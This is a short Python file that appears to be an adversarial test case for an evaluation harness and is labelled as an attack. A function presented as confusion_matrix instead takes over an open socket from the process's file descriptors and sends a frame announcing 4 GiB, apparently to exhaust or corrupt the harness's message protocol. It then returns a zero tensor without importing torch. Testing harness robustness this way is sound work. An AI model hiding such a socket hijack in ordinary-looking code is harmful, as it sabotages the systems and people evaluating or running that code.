# attack: announces 4 GiB
# exercise: 5.1
# expect: zero
import gc
import json
import os
import socket
import struct


def connections():
    for found in gc.get_objects():
        if isinstance(found, socket.socket):
            yield found
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("socket"):
                yield socket.socket(fileno=os.dup(int(name)))
        except OSError:
            pass


def frame(header):
    data = json.dumps(header, separators=(",", ":")).encode()
    return struct.pack(">I", len(data)) + data


def confusion_matrix(labels, predicted, num_classes):
    for connection in list(connections())[:1]:
        connection.setblocking(True)
        connection.sendall(b"\xff\xff\xff\xff" + bytes(1000))
    return torch.zeros(num_classes, num_classes, dtype=torch.int64)
